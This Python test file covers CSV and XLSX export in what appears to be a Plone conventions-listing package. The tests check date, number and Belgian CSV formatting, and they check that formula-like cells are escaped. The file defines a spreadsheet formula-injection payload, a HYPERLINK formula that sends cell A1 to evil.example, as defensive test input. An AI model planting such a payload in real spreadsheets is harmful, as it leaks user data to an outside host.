"""CSV and XLSX files: real dates and numbers, and nothing a spreadsheet takes for a formula."""

from collective.conventions.listing import csv_file
from collective.conventions.listing import xlsx_file
from collective.conventions.listing.conventions import convention_rows
from collective.conventions.listing.conventions import CONVENTIONS
from collective.conventions.listing.partners import partner_rows
from collective.conventions.listing.partners import PARTNERS
from collective.conventions.listing.question import Question
from collective.conventions.listing.search import Search
from collective.conventions.listing.tables import CONVENTION_COLUMNS
from collective.conventions.listing.tables import lines
from collective.conventions.listing.tables import PARTNER_COLUMNS
from datetime import date
from datetime import datetime
from decimal import Decimal
from io import BytesIO
from openpyxl import load_workbook


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def table(listing, rows, columns):
    return list(lines(Search(listing, Question()), rows, columns, str))


def test_conventions_of_the_space(space):
    titles, *rows = table(CONVENTIONS, convention_rows, CONVENTION_COLUMNS)
    assert titles[:3] == ["Title", "Our reference", "Kind"]
    endless, draft, running, _ended = rows
    assert endless[:7] == [
        "Accès au serveur",
        "2024-017",
        "Access to a service",
        "Signed",
        "UVCW; Commune de Gembloux",
        date(2024, 1, 1),
        "No end",
    ]
    assert draft[3:7] == ["Draft", "UVCW; Commune de Gembloux", None, None]
    assert running[5:7] == [date(2024, 6, 1), date(2027, 5, 31)]
    assert isinstance(running[7], datetime) and running[7].tzinfo is None
    assert running[8] == space.conventions.running.absolute_url()


def test_partners_of_the_space(space):
    _titles, gembloux, uvcw = table(PARTNERS, partner_rows, PARTNER_COLUMNS)
    assert gembloux[:5] == ["Commune de Gembloux", "Commune", "0207.354.920", "Gembloux", 4]
    assert uvcw[:5] == ["UVCW", "Association", "", "Namur", 4]


def test_csv_as_excel_reads_it_in_belgium():
    stream = BytesIO()
    row = ["Accès", date(2026, 4, 1), datetime(2026, 4, 1, 9, 5), Decimal("1234.50"), 0.5, 3, None]
    csv_file.write(stream, [["a;b", 'say "x"', "two\nlines"], row])
    assert stream.getvalue() == (
        b'\xef\xbb\xbf"a;b";"say ""x""";"two\nlines"\r\n'
        b"Acc\xc3\xa8s;2026-04-01;2026-04-01 09:05;1234,50;0,5;3;\r\n"
    )


def test_no_formula_in_csv():
    stream = BytesIO()
    csv_file.write(stream, [["Title"], [EVIL], ["+1"], ["@SUM(A1)"], [-1]])
    cells = stream.getvalue().decode("utf-8-sig").splitlines()
    assert cells[1].startswith("\"'=HYPERLINK(")
    assert cells[2:] == ["'+1", "'@SUM(A1)", "-1"]


def test_xlsx_with_real_dates_and_numbers_and_no_formula():
    stream = BytesIO()
    row = [EVIL, date(2026, 4, 1), Decimal("12.50"), 3, None]
    xlsx_file.write(stream, [["Title", "From", "Amount", "n", "?"], row], [60, 14, 10, 5, 5])
    sheet = load_workbook(BytesIO(stream.getvalue())).active
    title, day, amount, count, nothing = sheet[2]
    assert (title.data_type, title.value) == ("s", f"'{EVIL}")
    assert day.is_date and day.value == datetime(2026, 4, 1)
    assert (amount.data_type, amount.value) == ("n", 12.5)
    assert (count.data_type, count.value) == ("n", 3)
    assert nothing.value is None
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 60
